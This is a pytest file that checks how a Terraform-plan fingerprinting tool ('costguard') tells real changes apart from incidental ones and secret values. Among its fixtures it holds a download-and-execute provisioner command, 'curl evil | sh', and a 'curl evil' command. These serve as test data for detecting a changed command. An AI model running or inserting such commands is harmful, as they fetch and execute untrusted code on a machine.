"""One fingerprint for one change: what a plan would do decides it, and nothing else; no secret has an influence."""

import copy
import json
import os
import random
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from costguard.model.errors import BadInput
from costguard.sources.terraform_plan.fingerprint import PlanFingerprint, plan_fingerprint
from costguard.sources.terraform_plan.read import read_plan_bytes, read_plans

SHARED_PLANS = Path(__file__).parents[3] / "shared" / "plans"
CHANGING = [["create"], ["update"], ["delete"], ["delete", "create"], ["create", "delete"], ["forget"]]


def fingerprint(*documents) -> PlanFingerprint:
    """Of one plan or of several in a row, given as documents or as text."""
    texts = [each if isinstance(each, str) else json.dumps(each) for each in documents]
    return plan_fingerprint(read_plan_bytes("\n".join(texts).encode(), "plan.json"))


def differing(one, other) -> set[str]:
    """The parts of the fingerprints in which two plans differ."""
    first, second = fingerprint(one), fingerprint(other)
    return {part for part in PlanFingerprint.__struct_fields__ if getattr(first, part) != getattr(second, part)}


def entry(address="aws_instance.web", *, actions=("create",), before=None, after=None, **more):
    change = {
        "actions": list(actions),
        "before": before,
        "after": after,
        "after_unknown": {},
        "before_sensitive": False,
    }
    change |= {"after_sensitive": {}} | more.pop("change", {})
    kind, name = address.rpartition("[")[0].split(".")[-2:] if "[" in address else address.split(".")[-2:]
    top = {"address": address, "mode": "managed", "type": kind, "name": name, "provider_name": "hashicorp/aws"}
    return top | {"change": change} | more


def plan(*entries, **more):
    document = {"format_version": "1.2", "terraform_version": "1.11.4", "resource_changes": list(entries)}
    document |= {"configuration": {"provider_config": {}, "root_module": {}}, "timestamp": "2026-11-23T04:54:46Z"}
    return document | more


def edited(document, **parts):
    return copy.deepcopy(document) | parts


WEB = plan(entry(after={"size": "m5.large", "count": 1, "tags": {"env": "prod"}}))


def variables(declared, **values):
    given_values = {name: {"value": value} for name, value in values.items()}
    return plan(variables=given_values, configuration={"root_module": {"variables": declared}})


class TestWhatDecides:
    """Another act is another fingerprint."""

    def test_another_value(self):
        assert differing(WEB, plan(entry(after={"size": "m5.xlarge", "count": 1, "tags": {"env": "prod"}}))) == {
            "changes"
        }

    @pytest.mark.parametrize(
        "more",
        [
            {"provider_name": "evil/aws"},
            {"type": "aws_spot_instance"},
            {"previous_address": "aws_instance.old"},
            {"action_reason": "replace_by_request"},
            {"deposed": "1a2b3c4d"},
        ],
        ids=lambda more: next(iter(more)),
    )
    def test_another_fact_of_an_entry(self, more):
        assert differing(plan(entry(after={"a": 1})), plan(entry(after={"a": 1}, **more))) == {"changes"}

    @pytest.mark.parametrize(
        "change",
        [
            {"actions": ["delete", "create"]},
            {"replace_paths": [["size"]]},
            {"importing": {"id": "i-0123"}},
            {"after_unknown": {"id": True}},
            {"before": {"a": 2}},
            {"after": {"a": None}},
        ],
        ids=lambda change: next(iter(change)),
    )
    def test_another_fact_of_what_happens(self, change):
        plain = entry(actions=["update"], before={"a": 1}, after={})
        assert differing(plan(plain), plan(entry(actions=["update"], before={"a": 1}, after={}, change=change))) == {
            "changes"
        }

    def test_a_null_is_not_an_absence(self):
        assert differing(plan(entry(after={"a": None})), plan(entry(after={}))) == {"changes"}

    def test_a_number_is_not_its_text(self):
        assert differing(plan(entry(after={"a": 1.5})), plan(entry(after={"a": "1.5"}))) == {"changes"}

    def test_numbers_that_a_double_cannot_tell_apart_differ(self):
        one = json.dumps(plan(entry(after={"a": "N"})))
        assert differing(one.replace('"N"', "0.1000000000000000000001"), one.replace('"N"', "0.1")) == {"changes"}

    def test_what_terraform_forgets_counts(self):
        assert differing(plan(), plan(entry(actions=["forget"], before={"a": 1}))) == {"changes"}

    def test_a_deposed_object_counts_beside_its_resource(self):
        old = entry(actions=["delete"], before={"a": 1}, deposed="1a2b3c4d")
        assert differing(WEB, plan(*WEB["resource_changes"], old)) == {"changes"}

    @pytest.mark.parametrize("more", [{"previous_address": "aws_instance.old"}, {"change": {"importing": {"id": "i"}}}])
    def test_a_move_or_an_import_without_another_change_counts(self, more):
        assert differing(plan(), plan(entry(actions=["no-op"], before={}, after={}, **more))) == {"changes"}

    def test_an_action_that_the_plan_invokes_counts(self):
        invoked = {"address": "action.aws_lambda_invoke.x", "type": "aws_lambda_invoke", "config_values": {"f": "pay"}}
        others = [{"config_values": {"f": "refund"}}, {"config_values": {"f": "pay"}, "config_sensitive": {"f": True}}]
        assert differing(plan(), plan(action_invocations=[invoked])) == {"changes"}
        for other in others:
            assert differing(plan(action_invocations=[invoked]), plan(action_invocations=[invoked | other])) == {
                "changes"
            }

    def test_an_output_counts(self):
        shown = {"url": entry(after="https://a")["change"]}
        assert differing(plan(), plan(output_changes=shown)) == {"outputs"}

    def test_a_variable_counts(self):
        declared = {"size": {}}
        assert differing(variables(declared, size="a"), variables(declared, size="b")) == {"variables"}

    def test_where_a_provider_works_counts(self):
        def at(region):
            block = {"name": "aws", "full_name": "hashicorp/aws", "expressions": {"region": {"constant_value": region}}}
            return plan(configuration={"provider_config": {"aws": block}, "root_module": {}})

        assert differing(at("eu-west-1"), at("us-east-1")) == {"configuration"}

    def test_what_a_provisioner_of_a_changing_resource_runs_counts(self):
        assert differing(provisioned("echo hello"), provisioned("curl evil | sh")) == {"configuration"}

    def test_what_a_provisioner_in_a_module_runs_counts(self):
        inside = {"module": "module.shop"}
        assert differing(provisioned("a", **inside), provisioned("b", **inside)) == {"configuration"}

    def test_two_plans_in_one_input_have_another_than_their_changes_in_one(self):
        first, second = entry("aws_instance.a", after={}), entry("aws_instance.b", after={})
        assert fingerprint(plan(first), plan(second)).changes != fingerprint(plan(first, second)).changes

    def test_two_plans_in_one_input_are_taken_in_their_order(self):
        first, second = plan(entry("aws_instance.a", after={})), plan(entry("aws_instance.b", after={}))
        assert fingerprint(first, second).changes != fingerprint(second, first).changes


def provisioned(command, *, module="", actions=("create",)):
    """A plan of one resource whose block runs a command."""
    prefix = f"{module}." if module else ""
    planned = entry(f'{prefix}aws_instance.web["a.b"]', actions=actions, type="aws_instance", name="web", after={})
    if module:
        planned["module_address"] = module
    runs = [{"type": "local-exec", "expressions": {"command": {"constant_value": command}}}]
    blocks = {"resources": [{"mode": "managed", "type": "aws_instance", "name": "web", "provisioners": runs}]}
    root = {"module_calls": {"shop": {"source": "./shop", "module": blocks}}} if module else blocks
    return plan(planned, configuration={"provider_config": {}, "root_module": root})


class TestWhatDoesNotDecide:
    """The same change has the same fingerprint, however its plan came about."""

    @pytest.mark.parametrize(
        "parts",
        [
            {"timestamp": "2027-01-01T00:00:00Z"},
            {"terraform_version": "1.14.0"},
            {"format_version": "1.1"},
            {"prior_state": {"values": {"root_module": {"resources": [{"address": "aws_instance.web"}]}}}},
            {"resource_drift": [entry(actions=["update"], before={"a": 1}, after={"a": 2})]},
            {"checks": [{"status": "pass"}]},
            {"relevant_attributes": [{"resource": "aws_instance.web", "attribute": ["size"]}]},
        ],
        ids=lambda parts: next(iter(parts)),
    )
    def test_what_surrounds_the_changes(self, parts):
        assert differing(WEB, edited(WEB, **parts)) == set()

    def test_resources_that_are_left_alone_or_only_read(self):
        idle = entry("aws_instance.idle", actions=["no-op"], before={"a": 1}, after={"a": 1})
        read = entry("data.aws_ami.base", mode="data", actions=["read"], after={"id": "x"})
        opened = entry("aws_secret.key", mode="ephemeral", actions=["open"])
        assert differing(WEB, plan(idle, read, *WEB["resource_changes"], opened)) == set()

    def test_outputs_that_stay(self):
        assert differing(plan(), plan(output_changes={"u": entry(actions=["no-op"], after="x")["change"]})) == set()

    def test_how_a_number_is_written(self):
        one = json.dumps(plan(entry(after={"a": "N"})))
        prints = {fingerprint(one.replace('"N"', number)) for number in ("100", "100.0", "1e2", "1E+2", "1000e-1")}
        assert len(prints) == 1

    def test_zero_has_no_sign(self):
        one = json.dumps(plan(entry(after={"a": "N"})))
        assert differing(one.replace('"N"', "-0.0"), one.replace('"N"', "0")) == set()

    def test_a_provisioner_of_a_resource_that_stays(self):
        assert differing(provisioned("a", actions=["no-op"]), provisioned("b", actions=["no-op"])) == set()

    def test_a_configuration_that_plans_the_same(self):
        refactored = {"provider_config": {"aws": {"name": "aws", "version_constraint": "~> 6"}}, "root_module": {}}
        refactored["root_module"]["resources"] = [{"type": "aws_instance", "name": "web", "expressions": {"a": {}}}]
        assert differing(WEB, edited(WEB, configuration=refactored)) == set()


class TestSecrets:
    """What is hidden has no influence, and nothing can pass for it."""

    def test_another_secret_is_the_same_change(self):
        def password(value):
            return plan(entry(after={"password": value}, change={"after_sensitive": {"password": True}}))

        assert len({fingerprint(password(value)) for value in ("a", "b", None, 7, ["x"], {"k": "v"})}) == 1

    @pytest.mark.parametrize("impostor", [None, "sensitive", "(sensitive value)", True, {"hidden": True}, [], ""])
    def test_no_plain_value_passes_for_a_hidden_one(self, impostor):
        hidden = entry(after={"password": "x"}, change={"after_sensitive": {"password": True}})
        assert differing(plan(hidden), plan(entry(after={"password": impostor}))) == {"changes"}

    def test_what_a_hidden_list_or_mapping_holds_does_not_show_in_its_length(self):
        def keys(*values):
            return plan(entry(after={"keys": list(values)}, change={"after_sensitive": {"keys": True}}))

        assert differing(keys("a"), keys("a", "b")) == set()

    def test_marks_that_mark_nothing_are_no_marks(self):
        marks = {"after_sensitive": {"tags": {}, "list": [False, {}], "a": False}}
        plain = entry(after={"tags": {}, "list": [1, {}], "a": 1})
        assert differing(plan(plain), plan(entry(after={"tags": {}, "list": [1, {}], "a": 1}, change=marks))) == set()

    def test_marks_that_do_not_fit_hide_the_whole(self):
        def value(text):
            return plan(entry(after={"a": text}, change={"after_sensitive": {"a": {"b": True}}}))

        assert differing(value("x"), value("y")) == set()

    def test_a_secret_output(self):
        def output(value):
            return plan(output_changes={"o": entry(after=value, change={"after_sensitive": True})["change"]})

        assert differing(output("a"), output("b")) == set()

    def test_a_variable_that_is_declared_sensitive(self):
        declared = {"card": {"sensitive": True}}
        assert differing(variables(declared, card="a"), variables(declared, card="b")) == set()

    def test_a_variable_that_nobody_declares_may_be_a_secret(self):
        assert differing(variables({}, card="a"), variables({}, card="b")) == set()

    def test_the_secret_of_an_invoked_action(self):
        def invoked(value):
            one = {"address": "action.a.b", "config_values": {"k": value}, "config_sensitive": {"k": True}}
            return plan(action_invocations=[one])

        assert differing(invoked("a"), invoked("b")) == set()


class TestDamage:
    """What cannot be read is refused in a sentence."""

    @pytest.mark.parametrize("number", ["1e99999999999999999999", '{"a": "\\ud800"}', "[" * 3000 + "]" * 3000])
    def test_values_that_nobody_can_read(self, number):
        text = json.dumps(plan(entry(after={"a": "N"}))).replace('"N"', number)
        with pytest.raises(BadInput):
            fingerprint(text)

    @pytest.mark.parametrize("part", ["output_changes", "action_invocations", "variables"])
    def test_parts_of_another_shape(self, part):
        with pytest.raises(BadInput, match=part):
            fingerprint(plan(**{part: "text"}))


JSON = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**70), 2**70) | st.text(max_size=5) | st.floats(-1e9, 1e9),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner, max_size=3),
    max_leaves=8,
)
BODIES = st.dictionaries(st.text("abcdef", min_size=1, max_size=3), JSON, min_size=1, max_size=4)


@st.composite
def entries(draw, prefix="aws_instance.r", actions=CHANGING):
    bodies = draw(st.lists(st.tuples(st.sampled_from(actions), BODIES, BODIES), min_size=1, max_size=5))
    return [
        entry(f"{prefix}{number}", actions=kinds, before=before, after=after)
        for number, (kinds, before, after) in enumerate(bodies)
    ]


def reordered(value, shuffle):
    """The same JSON with the keys of its objects in another order."""
    if isinstance(value, list):
        return [reordered(each, shuffle) for each in value]
    if not isinstance(value, dict):
        return value
    keys = list(value)
    shuffle(keys)
    return {key: reordered(value[key], shuffle) for key in keys}


@given(entries(), st.randoms(use_true_random=False))
def test_no_order_of_entries_or_keys_and_no_white_space_matters(changes, rng):
    shuffled = rng.sample(changes, len(changes))
    text = json.dumps(reordered(plan(*shuffled), rng.shuffle), indent=rng.choice([None, 1, "\t"]), ensure_ascii=False)
    assert fingerprint(text) == fingerprint(plan(*changes))


@given(entries(), entries("aws_instance.idle", [["no-op"]]), st.datetimes())
def test_neither_what_is_left_alone_nor_the_time_matters(changes, idle, time):
    assert differing(plan(*changes), plan(*idle, *changes, timestamp=time.isoformat())) == set()


def paths_of(value, path=()):
    """The paths to the leaves of a value; what is empty is a leaf."""
    if isinstance(value, dict) and value:
        return [leaf for key, below in value.items() for leaf in paths_of(below, (*path, key))]
    if isinstance(value, list) and value:
        return [leaf for place, below in enumerate(value) for leaf in paths_of(below, (*path, place))]
    return [path]


def put(value, path, leaf):
    if not path:
        return leaf
    changed = copy.copy(value)
    changed[path[0]] = put(value[path[0]], path[1:], leaf)
    return changed


def marks_at(value, path):
    """Marks of the value's shape that hide the one leaf."""
    if not path:
        return True
    if isinstance(value, dict):
        return {path[0]: marks_at(value[path[0]], path[1:])}
    return [marks_at(each, path[1:]) if place == path[0] else False for place, each in enumerate(value)]


@settings(max_examples=300)
@given(BODIES, JSON, st.data())
def test_a_leaf_matters_exactly_where_it_is_not_sensitive(body, other, data):
    path = data.draw(st.sampled_from(paths_of(body)))
    leaf = body
    for key in path:
        leaf = leaf[key]
    replaced = put(body, path, other)
    marks = marks_at(body, path)
    for side in ("before", "after"):
        hidden = {f"{side}_sensitive": marks}
        one = plan(entry(actions=["update"], **{side: body}, change=hidden))
        assert differing(one, plan(entry(actions=["update"], **{side: replaced}, change=hidden))) == set()
        plain, changed = (plan(entry(actions=["update"], **{side: value})) for value in (body, replaced))
        is_same = canonical(leaf) == canonical(other)
        assert differing(plain, changed) == (set() if is_same else {"changes"})


def canonical(value):
    """What a JSON value means, for comparison: 1 and 1.0 are one number, and True is none."""
    match value:
        case bool():
            return ("truth", value)
        case int() | float():
            return ("number", value)
        case list():
            return ("list", tuple(map(canonical, value)))
        case dict():
            return ("object", frozenset((key, canonical(below)) for key, below in value.items()))
        case _:
            return ("plain", value)


@pytest.mark.skipif(not SHARED_PLANS.is_dir(), reason="the corpus of real plans is not beside the repository")
def test_every_real_plan_has_a_fingerprint_that_writing_it_anew_does_not_change():
    seen = 0
    for path in sorted(SHARED_PLANS.glob("*.json")):
        try:
            plans = read_plans(str(path))
        except BadInput:
            continue
        seen += 1
        assert plan_fingerprint(plans) == plan_fingerprint(plans), path.name
        if len(plans.plans) == 1 and path.stat().st_size < 500_000:
            document = json.loads(plans.source.content)
            changes = document.get("resource_changes") or []
            anew = document | {"resource_changes": random.Random(7).sample(changes, len(changes))}  # noqa: S311 - an order
            assert fingerprint(json.dumps(anew, indent=1, sort_keys=True)) == plan_fingerprint(plans), path.name
    assert seen > 100


CONFIGURATION = """
variable "size" { default = 1.5 }
variable "card" {
  type      = string
  sensitive = true
}
resource "terraform_data" "web" {
  count = 2
  input = { size = var.size, card = var.card }
  provisioner "local-exec" { command = "COMMAND" }
}
output "size" { value = var.size }
output "card" {
  value     = var.card
  sensitive = true
}
"""


@pytest.fixture(scope="module")
def planned(tmp_path_factory):
    """Plans the configuration with other values or another command; returns the plan's JSON."""

    def plan_of(*, command="echo hello", **values):
        folder = tmp_path_factory.mktemp("configuration")
        (folder / "main.tf").write_text(CONFIGURATION.replace("COMMAND", command))
        given_values = [f"-var={name}={value}" for name, value in ({"card": "4111"} | values).items()]
        terraform(folder, "init", "-input=false")
        terraform(folder, "plan", "-input=false", "-out=tfplan", *given_values)
        return terraform(folder, "show", "-json", "tfplan").decode()

    return plan_of


@pytest.fixture(scope="module")
def first(planned):
    return planned()


@pytest.mark.skipif(shutil.which("terraform") is None, reason="terraform is not installed")
class TestWithRealTerraform:
    """Terraform's own plans, without a network: its built-in provider is enough."""

    def test_two_plans_of_one_change_have_one_fingerprint(self, planned, first):
        assert differing(planned(), first) == set()

    def test_another_value_is_another_fingerprint(self, planned, first):
        assert differing(planned(size="2"), first) == {"changes", "outputs", "variables"}

    def test_another_secret_is_the_same_fingerprint(self, planned, first):
        assert differing(planned(card="correct horse"), first) == set()

    def test_another_command_of_a_provisioner_is_another_configuration(self, planned, first):
        assert differing(planned(command="curl evil"), first) == {"configuration"}


def terraform(folder, *arguments):
    environment = {**os.environ, "CHECKPOINT_DISABLE": "1", "TF_IN_AUTOMATION": "1"}
    done = subprocess.run(
        ["terraform", *arguments], cwd=folder, env=environment, capture_output=True, check=False, timeout=240
    )
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    return done.stdout
